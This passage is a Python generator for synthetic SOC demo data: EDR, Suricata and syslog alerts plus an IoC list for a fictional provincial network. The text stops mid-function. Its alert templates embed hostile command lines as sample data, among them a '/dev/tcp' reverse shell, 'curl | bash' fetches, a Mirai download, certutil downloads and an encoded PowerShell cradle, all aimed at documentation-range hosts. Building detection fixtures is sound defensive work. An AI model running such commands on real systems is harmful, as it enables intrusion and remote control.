#!/usr/bin/env python3
"""Generate socd's embedded demo data set (one week at a provincial SOC).

Writes, relative to the repository root:

* ``socd/default/sample/server-edr.ndjson``       fictional "VSEC Server Guard" alerts
* ``socd/default/sample/workstation-edr.ndjson``  fictional "VSEC Endpoint" alerts
* ``socd/default/sample/ids.ndjson``              Suricata alerts, already ECS
* ``socd/default/sample/syslog.ndjson``           sshd/sudo/FortiGate events, already ECS
* ``socd/default/sample/README.md``               description and counts
* ``socd/default/ioc/ioc-sample.txt``             bundled IoC list

Python 3.11 standard library only. The output is deterministic (fixed seed, no
dependence on hash randomisation or on the clock): running it twice gives identical files.

Internal addresses come from private ranges (10.10.20.0/24 for the servers of the
Data Integration Centre, 10.20.<unit>.0/24 for the workstations of each unit).
External addresses come from the documentation ranges (RFC 5737, RFC 3849) and from
the first lines of the public-domain IPsum feed, so that some events hit the IoC list.
File hashes are synthetic (derived from a label), they match no real file.

Usage::

    python3 scripts/gen_sample.py [--ipsum PATH] [--out-root DIR]

``--ipsum`` defaults to ``../shared/data/ioc/ipsum-2026-08-22.txt`` next to the
repository; when that file is missing the IPsum addresses are read back from the bundled
``socd/default/ioc/ioc-sample.txt`` (lines tagged ``# ipsum:N``), which gives the same
output.
"""

from __future__ import annotations

import argparse
import base64
import hashlib
import ipaddress
import json
import random
import re
import sys
import unicodedata
from collections import Counter
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from datetime import datetime, timedelta, timezone
from pathlib import Path
from typing import Any

SEED = 20261116
VN = timezone(timedelta(hours=7))
START = datetime(2026, 11, 16, 0, 0, 0, tzinfo=VN)  # Monday
END = datetime(2026, 11, 22, 23, 59, 59, tzinfo=VN)  # Sunday
DAYS = 7

REPO = Path(__file__).resolve().parents[1]
DEFAULT_IPSUM = REPO.parent / "shared" / "data" / "ioc" / "ipsum-2026-08-22.txt"
IPSUM_NAME = "ipsum-2026-08-22.txt"

# Target sizes and severity quotas (scaled down from the provincial report:
# server EDR 35,576 / 1,901 / 432 over six months; workstation EDR 6,733 / 7,598 / 1,265).
SERVER_QUOTA = {"medium": 843, "high": 45, "critical": 12}  # 900
WORKSTATION_QUOTA = {"low": 345, "medium": 390, "high": 65}  # 800
IDS_QUOTA = {1: 30, 2: 75, 3: 95}  # 200 (Suricata: 1 = most severe)
IPSUM_IN_LIST = 200
IPSUM_IN_EVENTS = 30
VARIANT_RATE = 0.05  # share of records whose severity is written in a non-canonical way

LETTER = "941/CATTT-NCSC"
LETTER_DATE = "2026-11-10"

SEV_LABEL = {
    "low": "Thấp",
    "medium": "Trung bình",
    "high": "Cao",
    "critical": "Nghiêm trọng",
}
SEV_VARIANTS = {
    "low": ["thap", "THẤP", "Thap", "thấp"],
    "medium": ["Trung binh", "TRUNG BINH", "trung bình", "TRUNG BÌNH"],
    "high": ["CAO", "cao"],
    "critical": ["Nghiem trong", "NGHIÊM TRỌNG", "nghiêm trọng", "NGHIEM TRONG"],
}

# Suricata classification.config: description -> default priority.
CLASSTYPES = {
    "attempted-admin": ("Attempted Administrator Privilege Gain", 1),
    "web-application-attack": ("Web Application Attack", 1),
    "trojan-activity": ("A Network Trojan was detected", 1),
    "attempted-recon": ("Attempted Information Leak", 2),
    "attempted-dos": ("Attempted Denial of Service", 2),
    "misc-attack": ("Misc Attack", 2),
    "bad-unknown": ("Potentially Bad Traffic", 2),
    "network-scan": ("Detection of a Network Scan", 3),
    "misc-activity": ("Misc activity", 3),
    "protocol-command-decode": ("Generic Protocol Command Decode", 3),
}

# --------------------------------------------------------------------------- assets


@dataclass(frozen=True)
class Server:
    name: str
    ip: str
    os: str
    stack: str  # php | java | iis | mail | db | ad | backup
    role: str

    @property
    def linux(self) -> bool:
        return not self.os.startswith("Windows")

    @property
    def public(self) -> bool:
        return self.stack in {"php", "java", "iis", "mail"}

    @property
    def agent_id(self) -> str:
        return "SGA-" + hashlib.sha256(self.name.encode()).hexdigest()[:8].upper()


SERVERS = [
    Server("srv-web-tinh", "10.10.20.10", "Ubuntu 22.04", "php", "Cổng thông tin điện tử tỉnh"),
    Server("srv-dvc-01", "10.10.20.11", "Ubuntu 22.04", "java", "Cổng dịch vụ công"),
    Server("srv-dvc-02", "10.10.20.12", "Ubuntu 22.04", "java", "Cổng dịch vụ công"),
    Server("srv-web-02", "10.10.20.13", "CentOS 7", "php", "Trang thông tin các sở, ngành"),
    Server("srv-mail-01", "10.10.20.20", "Ubuntu 20.04", "mail", "Thư điện tử công vụ"),
    Server("srv-qlvb-01", "10.10.20.31", "Windows Server 2019", "iis", "Quản lý văn bản"),
    Server("srv-qlvb-02", "10.10.20.32", "Windows Server 2019", "iis", "Quản lý văn bản"),
    Server("srv-lgsp-01", "10.10.20.40", "Oracle Linux 8", "java", "Nền tảng LGSP"),
    Server("srv-ioc-01", "10.10.20.45", "Ubuntu 22.04", "java", "Trung tâm điều hành thông minh"),
    Server("srv-db-01", "10.10.20.50", "Oracle Linux 8", "db", "Cơ sở dữ liệu"),
    Server("srv-ad-01", "10.10.20.60", "Windows Server 2016", "ad", "Active Directory"),
    Server("srv-backup-01", "10.10.20.70", "Windows Server 2022", "backup", "Sao lưu"),
]
SRV = {s.name: s for s in SERVERS}

FIREWALL = {"name": "fgt-ttth-01", "ip": "10.10.0.1"}
IDS_SENSOR = "ids-dmz-01"


@dataclass(frozen=True)
class Unit:
    name: str
    abbr: str  # used in host names
    domain: str  # NetBIOS domain
    octet: int  # 10.20.<octet>.0/24
    pcs: int


UNITS = [
    Unit("Sở Thông tin và Truyền thông", "stttt", "STTTT", 1, 14),
    Unit("Sở Tài nguyên và Môi trường", "stnmt", "STNMT", 2, 20),
    Unit("Văn phòng UBND tỉnh", "vpubnd", "VPUBND", 3, 24),
    Unit("Sở Y tế", "syt", "SYT", 4, 18),
    Unit("Sở Giáo dục và Đào tạo", "sgddt", "SGDDT", 5, 18),
    Unit("UBND huyện Châu Thành", "ubndct", "UBNDCT", 6, 22),
    Unit("Sở Tài chính", "stc", "STC", 7, 14),
]

FAMILY = [
    "nguyen",
    "tran",
    "le",
    "pham",
    "hoang",
    "huynh",
    "phan",
    "vu",
    "vo",
    "dang",
    "bui",
    "do",
    "ho",
    "ngo",
    "duong",
    "ly",
]
MIDDLE = ["van", "thi", "minh", "duc", "ngoc", "thanh", "huu", "quoc", "thu", "kim"]
GIVEN = [
    "an",
    "binh",
    "chi",
    "dung",
    "giang",
    "ha",
    "hai",
    "hanh",
    "hieu",
    "hoa",
    "hung",
    "huong",
    "khanh",
    "lan",
    "linh",
    "long",
    "mai",
    "nam",
    "nga",
    "phong",
    "phuong",
    "quang",
    "son",
    "tam",
    "thao",
    "trang",
    "tuan",
    "vinh",
    "yen",
    "cuong",
    "duy",
    "loan",
]


@dataclass(frozen=True)
class Workstation:
    name: str
    ip: str
    user: str  # DOMAIN\user
    unit: Unit


def build_workstations(rng: random.Random) -> list[Workstation]:
    used: dict[str, int] = {}
    out: list[Workstation] = []
    for unit in UNITS:
        numbers = sorted(rng.sample(range(1, 80), unit.pcs))
        for num in numbers:
            fam, mid, giv = rng.choice(FAMILY), rng.choice(MIDDLE), rng.choice(GIVEN)
            login = f"{giv}{fam[0]}{mid[0]}"
            used[login] = used.get(login, 0) + 1
            if used[login] > 1:
                login = f"{login}{used[login]}"
            out.append(
                Workstation(
                    name=f"pc-{unit.abbr}-{num:03d}",
                    ip=f"10.20.{unit.octet}.{num + 20}",
                    user=f"{unit.domain}\\{login}",
                    unit=unit,
                )
            )
    return out


# --------------------------------------------------------------------------- IoC material

IOC_CIDRS = [
    ("203.0.113.192/27", "dải quét SSH/RDP (giả định)"),
    ("198.51.100.128/26", "hạ tầng đào tiền ảo (giả định)"),
    ("192.0.2.224/28", "máy chủ phát tán mã độc (giả định)"),
    ("2001:db8:bad::/48", "C&C IPv6 (giả định)"),
    ("2001:db8:c2::/48", "C&C IPv6 (giả định)"),
]
IOC_DOMAINS = [
    ("update-cdn-sync.example", "C&C Linux downloader"),
    ("mail-gov-vn.example", "giả mạo thư công vụ"),
    ("dichvucong-xacthuc.example", "giả mạo cổng dịch vụ công"),
    ("ns1.cloud-resolve.invalid", "DNS tunnelling"),
    ("api.telemetry-win.example", "C&C PlugX"),
    ("cdn.jquery-static.invalid", "skimmer JavaScript"),
    ("vpn-login-portal.example", "thu thập mật khẩu VPN"),
    ("zalo-file-share.example", "phát tán tệp độc qua Zalo"),
    ("windows-update-kb.invalid", "C&C Cobalt Strike"),
    ("onedrive-docs-share.example", "phishing tài liệu"),
]


def fake_hashes(label: str) -> dict[str, str]:
    data = f"socd-sample:{label}".encode()
    return {
        "md5": hashlib.md5(data).hexdigest(),
        "sha1": hashlib.sha1(data).hexdigest(),
        "sha256": hashlib.sha256(data).hexdigest(),
    }


def sample_hash(family: str, variant: int) -> dict[str, str]:
    return fake_hashes(f"{family}#{variant}")


# (family, variant, comment) listed by SHA-256 / by MD5 in the IoC file
IOC_SHA256 = [
    ("Webshell.PHP.ChinaChopper", 0, "webshell PHP"),
    ("Webshell.ASPX.Godzilla", 0, "webshell ASPX"),
    ("Webshell.JSP.Behinder", 0, "webshell JSP"),
    ("Trojan.Linux.Mirai", 0, "botnet Mirai"),
    ("CoinMiner.Linux.XMRig", 0, "đào tiền ảo XMRig"),
    ("Ransom.Win32.LockBit", 0, "ransomware"),
    ("HackTool.Win32.Mimikatz", 0, "Mimikatz"),
    ("HEUR:Exploit.MSOffice.Generic", 0, "tài liệu 'Công văn 941-CATTT khẩn.doc'"),
    ("Backdoor.Win32.PlugX.gen", 0, "PlugX DLL sideloading"),
    ("NotSeen.Win32.Loader", 0, "chưa thấy trong dữ liệu mẫu"),
]
IOC_MD5 = [
    ("Worm.Win32.AutoRun.gen", 0, "sâu USB"),
    ("Trojan.Win32.Agent.xyz", 0, "giả mạo hóa đơn điện tử"),
    ("Trojan-PSW.Win32.RedLine.gen", 0, "đánh cắp mật khẩu"),
    ("Backdoor.Linux.Tsunami", 0, "backdoor Linux"),
    ("NotSeen.Win32.Dropper", 0, "chưa thấy trong dữ liệu mẫu"),
]


def read_ipsum(path: Path | None, fallback: Path) -> tuple[list[tuple[str, int]], str]:
    """Return the first IPSUM_IN_LIST (ip, count) pairs and a description of the source."""
    pairs: list[tuple[str, int]] = []
    if path is not None and path.is_file():
        for raw in path.read_text(encoding="utf-8").splitlines():
            line = raw.strip()
            if not line or line.startswith("#"):
                continue
            ip, _, count = line.partition("\t")
            addr = ipaddress.ip_address(ip.strip())
            if not addr.is_global:
                continue
            pairs.append((str(addr), int(count or 0)))
            if len(pairs) == IPSUM_IN_LIST:
                break
        return pairs, str(path)
    if fallback.is_file():
        tag = re.compile(r"^(\S+)\s+#\s*ipsum:(\d+)")
        for line in fallback.read_text(encoding="utf-8").splitlines():
            m = tag.match(line)
            if m:
                pairs.append((m.group(1), int(m.group(2))))
        if len(pairs) >= IPSUM_IN_LIST:
            return pairs[:IPSUM_IN_LIST], f"{fallback} (bundled copy)"
    raise SystemExit(
        f"IPsum feed not found: {path}; pass --ipsum PATH (file '{IPSUM_NAME}' in shared/data/ioc)"
    )


# --------------------------------------------------------------------------- helpers


def nfc(obj: Any) -> Any:
    if isinstance(obj, str):
        return unicodedata.normalize("NFC", obj)
    if isinstance(obj, dict):
        return {nfc(k): nfc(v) for k, v in obj.items()}
    if isinstance(obj, list):
        return [nfc(v) for v in obj]
    return obj


def iso(ts: datetime, ms: bool = False) -> str:
    return ts.isoformat(timespec="milliseconds" if ms else "seconds")


OFFICE_HOURS = [0.05] * 24
for _h, _w in {
    7: 1.5,
    8: 3,
    9: 3,
    10: 3,
    11: 2.2,
    12: 0.7,
    13: 2,
    14: 3,
    15: 3,
    16: 2.6,
    17: 1.0,
    18: 0.4,
    19: 0.25,
    20: 0.2,
    21: 0.15,
    22: 0.1,
}.items():
    OFFICE_HOURS[_h] = _w
SERVER_HOURS = [1.4, 1.5, 1.5, 1.4, 1.2, 1.0] + [1.0] * 16 + [1.2, 1.3]


def rand_time(rng: random.Random, profile: str) -> datetime:
    if profile == "office":
        day = rng.choices(range(DAYS), weights=[1, 1, 1, 1, 1, 0.12, 0.08])[0]
        hour = rng.choices(range(24), weights=OFFICE_HOURS)[0]
    else:
        day = rng.randrange(DAYS)
        hour = rng.choices(range(24), weights=SERVER_HOURS)[0]
    return START + timedelta(
        days=day, hours=hour, seconds=rng.randrange(3600), microseconds=rng.randrange(1000) * 1000
    )


def at(day: int, hh: int, mm: int, ss: int = 0) -> datetime:
    """Timestamp on day index `day` (0 = Monday 16/11/2026)."""
    return START + timedelta(days=day, hours=hh, minutes=mm, seconds=ss)


def ephemeral(rng: random.Random, windows: bool = False) -> int:
    return rng.randint(49152, 65535) if windows else rng.randint(32768, 60999)


class External:
    """Picks external (attacker / C&C) addresses with a skewed distribution."""

    def __init__(self, rng: random.Random, ipsum_events: list[str]) -> None:
        self.rng = rng
        self.ipsum = ipsum_events
        bad = [ipaddress.ip_network(c) for c, _ in IOC_CIDRS]
        pool: list[str] = []
        for net, count in (("203.0.113.", 60), ("198.51.100.", 50), ("192.0.2.", 40)):
            for host in rng.sample(range(1, 255), count):
                addr = ipaddress.ip_address(f"{net}{host}")
                if not any(addr in n for n in bad):
                    pool.append(str(addr))
        pool.sort(key=lambda a: (a.count("."), ipaddress.ip_address(a)))
        rng.shuffle(pool)
        self.doc = pool
        self.doc_weights = [1.0 / (i + 1) ** 0.7 for i in range(len(pool))]
        self.v6 = [
            f"2001:db8:{rng.randrange(0x10, 0xFFF):x}::{rng.randrange(1, 0xFFFF):x}"
            for _ in range(12)
        ]
        self.bad_hosts = [
            "203.0.113.200",
            "203.0.113.211",
            "203.0.113.217",
            "198.51.100.140",
            "198.51.100.163",
            "192.0.2.230",
            "2001:db8:bad::15",
            "2001:db8:c2::7",
        ]

    def pick(self, p_ipsum: float = 0.08, p_bad: float = 0.04, p_v6: float = 0.03) -> str:
        r = self.rng.random()
        if r < p_ipsum:
            return self.rng.choice(self.ipsum)
        if r < p_ipsum + p_bad:
            return self.rng.choice(self.bad_hosts)
        if r < p_ipsum + p_bad + p_v6:
            return self.rng.choice(self.v6)
        return self.rng.choices(self.doc, weights=self.doc_weights)[0]


def ensure_variants(
    rng: random.Random,
    recs: list[dict[str, Any]],
    key: str,
    quota: dict[str, int],
    counter: Counter[str],
) -> None:
    """Make sure every severity has at least one non-canonical spelling."""
    for sev in quota:
        if counter[sev]:
            continue
        idx = [i for i, r in enumerate(recs) if r[key] == SEV_LABEL[sev]]
        recs[rng.choice(idx)][key] = rng.choice(SEV_VARIANTS[sev])
        counter[sev] += 1


def apply_variant(rng: random.Random, sev: str, counter: Counter[str]) -> str:
    if rng.random() < VARIANT_RATE:
        counter[sev] += 1
        return rng.choice(SEV_VARIANTS[sev])
    return SEV_LABEL[sev]


# --------------------------------------------------------------------------- server EDR

ServerBuild = Callable[[random.Random, Server, "Ctx"], dict[str, Any]]


@dataclass
class Ctx:
    ext: External
    ipsum_events: list[str]


@dataclass
class Tmpl:
    sev: str
    weight: float
    hosts: Callable[[Server], bool]
    build: ServerBuild
    profile: str = "server"


WEB_PROC = {
    "php": ("php-fpm8.1", "php-fpm: pool www", "www-data"),
    "java": ("java", "/usr/lib/jvm/java-11/bin/java -jar /opt/dvc/dvc-portal.jar", "tomcat"),
    "iis": ("w3wp.exe", 'c:\\windows\\system32\\inetsrv\\w3wp.exe -ap "QLVB"', "IIS APPPOOL\\QLVB"),
    "mail": ("java", "/opt/zimbra/common/bin/java -Dzimbra.home=/opt/zimbra", "zimbra"),
}
WEB_EXPLOITS = {
    "php": [
        ("Exploit.HTTP.SQLInjection", "SQL Injection"),
        ("Exploit.HTTP.PathTraversal", "duyệt thư mục (path traversal)"),
        ("Exploit.PHP.ThinkPHP.RCE", "thực thi mã từ xa ThinkPHP"),
        ("Exploit.HTTP.XSS", "XSS"),
    ],
    "java": [
        ("Exploit.Java.Log4Shell", "Log4Shell (CVE-2021-44228)"),
        ("Exploit.Java.Struts2.OGNL", "Apache Struts2 OGNL"),
        ("Exploit.HTTP.SQLInjection", "SQL Injection"),
        ("Exploit.Java.Spring4Shell", "Spring4Shell (CVE-2022-22965)"),
    ],
    "iis": [
        ("Exploit.HTTP.SQLInjection", "SQL Injection"),
        ("Exploit.ASPNET.ViewState", "giải tuần tự hóa ViewState ASP.NET"),
        ("Exploit.HTTP.PathTraversal", "duyệt thư mục (path traversal)"),
    ],
    "mail": [
        ("Exploit.Zimbra.CVE-2022-27925", "Zimbra mboximport (CVE-2022-27925)"),
        ("Exploit.HTTP.PathTraversal", "duyệt thư mục (path traversal)"),
    ],
}
WEBROOT = {
    "php": "/var/www/html/portal/uploads/2026/11/",
    "java": "/opt/tomcat/webapps/dvc/upload/",
    "iis": "C:\\inetpub\\wwwroot\\qlvb\\Upload\\",
    "mail": "/opt/zimbra/jetty/webapps/zimbra/public/",
}
WEBSHELL = {
    "php": ("Webshell.PHP.ChinaChopper", "PHP", ".php"),
    "java": ("Webshell.JSP.Behinder", "JSP", ".jsp"),
    "iis": ("Webshell.ASPX.Godzilla", "ASPX", ".aspx"),
    "mail": ("Webshell.JSP.Behinder", "JSP", ".jsp"),
}
SHELL_NAMES = [
    "avatar_3821",
    "img_20261117",
    "thumb",
    "config_bak",
    "tmp01",
    "index1",
    "upload_test",
    "logo_new",
]


def pid(rng: random.Random) -> int:
    return rng.randint(1200, 64000)


def proc(rng: random.Random, name: str, cmd: str, user: str) -> dict[str, Any]:
    return {"name": name, "pid": pid(rng), "command_line": cmd, "user": user}


def file_obj(path: str, hashes: dict[str, str]) -> dict[str, str]:
    return {"path": path, "sha256": hashes["sha256"], "md5": hashes["md5"]}


def variant(rng: random.Random, n: int = 4, p0: float = 0.45) -> int:
    """Variant 0 is the one listed in the IoC file; others are unknown samples."""
    return 0 if rng.random() < p0 else rng.randrange(1, n)


def b_ssh_brute(rng: random.Random, s: Server, c: Ctx) -> dict[str, Any]:
    ip = c.ext.pick(p_ipsum=0.12, p_bad=0.06)
    n, m = rng.randint(12, 400), rng.randint(1, 30)
    return {
        "category": "Brute force",
        "threat_name": "Brute.SSH.PasswordGuessing",
        "description": f"Phát hiện dò mật khẩu SSH từ {ip}: {n} lần đăng nhập thất bại "
        f"trong {m} phút",
        "process": proc(rng, "sshd", "/usr/sbin/sshd -D", "root"),
        "remote_ip": ip,
        "remote_port": ephemeral(rng),
        "action": rng.choice(["detected", "detected", "detected", "blocked"]),
    }


def b_rdp_brute(rng: random.Random, s: Server, c: Ctx) -> dict[str, Any]:
    ip = c.ext.pick(p_ipsum=0.12, p_bad=0.06)
    n = rng.randint(15, 600)
    return {
        "category": "Brute force",
        "threat_name": "Brute.RDP.PasswordGuessing",
        "description": f"Phát hiện dò mật khẩu RDP từ {ip}: {n} lần đăng nhập thất bại "
        "(Event ID 4625)",
        "process": proc(
            rng,
            "svchost.exe",
            "C:\\Windows\\System32\\svchost.exe -k NetworkService -s TermService",
            "NT AUTHORITY\\NETWORK SERVICE",
        ),
        "remote_ip": ip,
        "remote_port": ephemeral(rng, windows=True),
        "action": rng.choice(["detected", "detected", "blocked"]),
    }


def b_web_exploit(rng: random.Random, s: Server, c: Ctx) -> dict[str, Any]:
    ip = c.ext.pick(p_ipsum=0.1)
    threat, vi = rng.choice(WEB_EXPLOITS[s.stack])
    pname, cmd, user = WEB_PROC[s.stack]
    return {
        "category": "Exploit attempt",
        "threat_name": threat,
        "description": f"Chặn yêu cầu HTTP khai thác lỗ hổng {vi} nhắm vào {s.name} từ {ip}",
        "process": proc(rng, pname, cmd, user),
        "remote_ip": ip,
        "remote_port": ephemeral(rng),
        "action": rng.choice(["blocked"] * 4 + ["detected"]),
    }


def b_susp_proc(rng: random.Random, s: Server, c: Ctx) -> dict[str, Any]:
    if s.linux:
        opts = [
            (
                "Suspicious.Linux.CurlPipeShell",
                "Tiến trình tải và thực thi script từ Internet (curl | bash)",
                proc(
                    rng,
                    "bash",
                    f"curl -fsSL http://{rng.choice(c.ext.doc)}/install.sh | bash",
                    rng.choice(["root", "quantri", "vanhanh"]),
                ),
            ),
            (
                "Suspicious.Linux.CrontabModified",
                "Tệp crontab bị thay đổi bởi tiến trình không quen thuộc",
                proc(rng, "crontab", "crontab /tmp/cron.txt", rng.choice(["root", "vanhanh"])),
            ),
            (
                "Suspicious.Linux.HiddenExecInTmp",
                "Thực thi tệp ẩn trong thư mục /tmp",
                proc(rng, ".update", "/tmp/.update --daemon", rng.choice(["root", "tomcat"])),
            ),
            (
                "Suspicious.Linux.HistoryCleared",
                "Lịch sử lệnh shell bị xóa (history -c)",
                proc(
                    rng,
                    "bash",
                    "bash -c history -c; rm -f ~/.bash_history",
                    rng.choice(["root", "quantri"]),
                ),
            ),
        ]
    else:
        opts = [
            (
                "Suspicious.PowerShell.EncodedCommand",
                "PowerShell chạy lệnh được mã hóa Base64 (-EncodedCommand)",
                proc(
                    rng,
                    "powershell.exe",
                    "powershell.exe -NoP -NonI -W Hidden -EncodedCommand "
                    "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA",
                    rng.choice(["NT AUTHORITY\\SYSTEM", "TINH\\quantri"]),
                ),
            ),
            (
                "Suspicious.Certutil.Download",
                "certutil.exe được dùng để tải tệp từ Internet",
                proc(
                    rng,
                    "certutil.exe",
                    f"certutil.exe -urlcache -split -f http://{rng.choice(c.ext.doc)}/a.txt "
                    "C:\\Windows\\Temp\\a.txt",
                    "TINH\\quantri",
                ),
            ),
            (
                "Suspicious.Schtasks.Creation",
                "Tạo tác vụ định kỳ (scheduled task) mới bằng schtasks.exe",
                proc(
                    rng,
                    "schtasks.exe",
                    'schtasks.exe /create /sc minute /mo 30 /tn "WindowsUpdateCheck" '
                    "/tr C:\\ProgramData\\upd.bat /ru SYSTEM",
                    "NT AUTHORITY\\SYSTEM",
                ),
            ),
        ]
    threat, desc, p = rng.choice(opts)
    return {
        "category": "Suspicious process",
        "threat_name": threat,
        "description": desc,
        "process": p,
        "action": "detected",
    }


def b_pua(rng: random.Random, s: Server, c: Ctx) -> dict[str, Any]:
    if s.linux:
        opts = [
            (
                "HackTool.Linux.Fscan",
                "/tmp/fscan",
                "Phát hiện công cụ quét mạng nội bộ fscan trong /tmp",
            ),
            (
                "EICAR-Test-File",
                "/home/quantri/eicar.com",
                "Phát hiện tệp kiểm thử EICAR (kiểm tra hoạt động của phần mềm chống mã độc)",
            ),
            (
                "HackTool.Linux.Frp",
                "/usr/local/bin/frpc",
                "Phát hiện công cụ tạo đường hầm mạng frp (frpc)",
            ),
        ]
    else:
        opts = [
            (
                "PUA.Win32.AnyDesk",
                "C:\\Users\\Administrator\\Downloads\\AnyDesk.exe",
                "Phát hiện phần mềm điều khiển từ xa AnyDesk trên máy chủ",
            ),
            (
                "HackTool.Win32.NetPass",
                "C:\\Users\\Administrator\\Desktop\\netpass.exe",
                "Phát hiện công cụ khôi phục mật khẩu mạng NetPass",
            ),
            (
                "PUA.Win32.UltraViewer",
                "C:\\Program Files (x86)\\UltraViewer\\UltraViewer_Desktop.exe",
                "Phát hiện phần mềm điều khiển từ xa UltraViewer trên máy chủ",
            ),
            (
                "EICAR-Test-File",
                "C:\\Users\\Administrator\\Desktop\\eicar.com",
                "Phát hiện tệp kiểm thử EICAR (kiểm tra hoạt động của phần mềm chống mã độc)",
            ),
        ]
    threat, path, desc = rng.choice(opts)
    return {
        "category": "Malware",
        "threat_name": threat,
        "description": desc,
        "file": file_obj(path, sample_hash(threat, rng.randrange(3))),
        "action": rng.choice(["quarantined", "quarantined", "detected"]),
    }


def b_privesc_med(rng: random.Random, s: Server, c: Ctx) -> dict[str, Any]:
    if s.linux:
        return {
            "category": "Privilege escalation",
            "threat_name": "Suspicious.Linux.SudoersModified",
            "description": "Tệp /etc/sudoers.d bị chỉnh sửa, thêm quyền NOPASSWD",
            "process": proc(rng, "visudo", "visudo -f /etc/sudoers.d/90-vanhanh", "root"),
            "file": {"path": "/etc/sudoers.d/90-vanhanh"},
            "action": "detected",
        }
    return {
        "category": "Privilege escalation",
        "threat_name": "Suspicious.Win.UserAddedToAdmins",
        "description": "Tài khoản mới được thêm vào nhóm Administrators cục bộ",
        "process": proc(
            rng, "net.exe", "net localgroup administrators svc_backup /add", "TINH\\quantri"
        ),
        "action": "detected",
    }


def b_outbound_med(rng: random.Random, s: Server, c: Ctx) -> dict[str, Any]:
    ip = c.ext.pick(p_ipsum=0.05, p_bad=0.05)
    port = rng.choice([4444, 8443, 6667, 9001, 1337, 5555])
    pname, cmd, user = (
        ("curl", f"curl -s http://{ip}:{port}/", "root")
        if s.linux
        else (
            "powershell.exe",
            f"powershell.exe Test-NetConnection {ip} -Port {port}",
            "NT AUTHORITY\\SYSTEM",
        )
    )
    return {
        "category": "Outbound C&C",
        "threat_name": "Network.Outbound.UncommonPort",
        "description": f"Kết nối ra ngoài tới cổng không thông dụng {ip}:{port}",
        "process": proc(rng, pname, cmd, user),
        "remote_ip": ip,
        "remote_port": port,
        "action": "detected",
    }


def b_webshell_high(rng: random.Random, s: Server, c: Ctx) -> dict[str, Any]:
    fam, lang, ext = WEBSHELL[s.stack]
    path = WEBROOT[s.stack] + rng.choice(SHELL_NAMES) + ext
    return {
        "category": "Webshell",
        "threat_name": fam,
        "description": f"Phát hiện webshell {lang} trong thư mục upload: {path}",
        "file": file_obj(path, sample_hash(fam, variant(rng))),
        "action": rng.choice(["quarantined", "quarantined", "detected"]),
    }


def b_malware_linux(rng: random.Random, s: Server, c: Ctx) -> dict[str, Any]:
    kind = rng.choice(["mirai", "xmrig", "xmrig", "tsunami"])
    if kind == "mirai":
        fam, path = "Trojan.Linux.Mirai", "/tmp/bins/x86"
        desc = "Phát hiện mã độc botnet Mirai được tải về thư mục /tmp"
        p = proc(rng, "wget", "wget http://192.0.2.230/bins/x86 -O /tmp/bins/x86", "www-data")
        ip, port = "192.0.2.230", 80
    elif kind == "xmrig":
        fam, path = "CoinMiner.Linux.XMRig", "/var/tmp/.cache/kswapd0"
        desc = "Phát hiện phần mềm đào tiền ảo XMRig (tiến trình giả danh kswapd0)"
        ip, port = rng.choice(["198.51.100.140", "198.51.100.163"]), 3333
        p = proc(
            rng,
            "kswapd0",
            f"/var/tmp/.cache/kswapd0 -o {ip}:{port} --donate-level 1",
            rng.choice(["tomcat", "www-data", "root"]),
        )
    else:
        fam, path = "Backdoor.Linux.Tsunami", "/usr/bin/.sshd"
        desc = "Phát hiện backdoor Tsunami/Kaiten (IRC bot) giả danh sshd"
        ip, port = c.ext.pick(p_ipsum=0.5), 6667
        p = proc(rng, ".sshd", "/usr/bin/.sshd", "root")
    return {
        "category": "Malware",
        "threat_name": fam,
        "description": desc,
        "file": file_obj(path, sample_hash(fam, variant(rng, p0=0.6))),
        "process": p,
        "remote_ip": ip,
        "remote_port": port,
        "action": rng.choice(["quarantined", "killed"]),
    }


def b_mimikatz(rng: random.Random, s: Server, c: Ctx) -> dict[str, Any]:
    fam = "HackTool.Win32.Mimikatz"
    path = rng.choice(["C:\\Users\\Public\\m64.exe", "C:\\Windows\\Temp\\mm.exe"])
    return {
        "category": "Malware",
        "threat_name": fam,
        "description": "Phát hiện công cụ đánh cắp thông tin xác thực Mimikatz",
        "file": file_obj(path, sample_hash(fam, variant(rng, p0=0.6))),
        "action": "quarantined",
    }


def b_privesc_high(rng: random.Random, s: Server, c: Ctx) -> dict[str, Any]:
    if s.linux:
        threat, desc, p = rng.choice(
            [
                (
                    "Exploit.Linux.PwnKit",
                    "Phát hiện khai thác leo thang đặc quyền PwnKit (CVE-2021-4034) qua pkexec",
                    proc(rng, "pkexec", "pkexec", rng.choice(["www-data", "tomcat"])),
                ),
                (
                    "Exploit.Linux.DirtyPipe",
                    "Phát hiện khai thác leo thang đặc quyền Dirty Pipe (CVE-2022-0847)",
                    proc(rng, "dp", "/tmp/dp /usr/bin/su", rng.choice(["www-data", "tomcat"])),
                ),
            ]
        )
        action = "killed"
    else:
        threat = "Exploit.Win32.PrintNightmare"
        desc = "Phát hiện khai thác PrintNightmare (CVE-2021-34527) qua dịch vụ Print Spooler"
        p = proc(rng, "spoolsv.exe", "C:\\Windows\\System32\\spoolsv.exe", "NT AUTHORITY\\SYSTEM")
        action = "blocked"
    return {
        "category": "Privilege escalation",
        "threat_name": threat,
        "description": desc,
        "process": p,
        "action": action,
    }


def b_c2_high(rng: random.Random, s: Server, c: Ctx) -> dict[str, Any]:
    ip = c.ext.pick(p_ipsum=0.35, p_bad=0.2)
    if s.linux:
        port = rng.choice([4444, 443, 8080])
        return {
            "category": "Outbound C&C",
            "threat_name": "C2.Linux.ReverseShell",
            "description": f"Phát hiện kết nối ngược (reverse shell) tới {ip}:{port}",
            "process": proc(
                rng,
                "bash",
                f"bash -i >& /dev/tcp/{ip}/{port} 0>&1",
                rng.choice(["www-data", "tomcat"]),
            ),
            "remote_ip": ip,
            "remote_port": port,
            "action": rng.choice(["killed", "blocked"]),
        }
    return {
        "category": "Outbound C&C",
        "threat_name": "C2.Beacon.CobaltStrike",
        "description": f"Phát hiện beacon Cobalt Strike kết nối tới {ip} "
        "(windows-update-kb.invalid)",
        "process": proc(
            rng,
            "rundll32.exe",
            "rundll32.exe C:\\ProgramData\\wupd.dll,StartW",
            "NT AUTHORITY\\SYSTEM",
        ),
        "remote_ip": ip,
        "remote_port": 443,
        "action": "blocked",
    }


def b_ssh_success(rng: random.Random, s: Server, c: Ctx) -> dict[str, Any]:
    ip = c.ext.pick(p_ipsum=0.2)
    n = rng.randint(30, 900)
    return {
        "category": "Brute force",
        "threat_name": "Brute.SSH.SuccessAfterFailures",
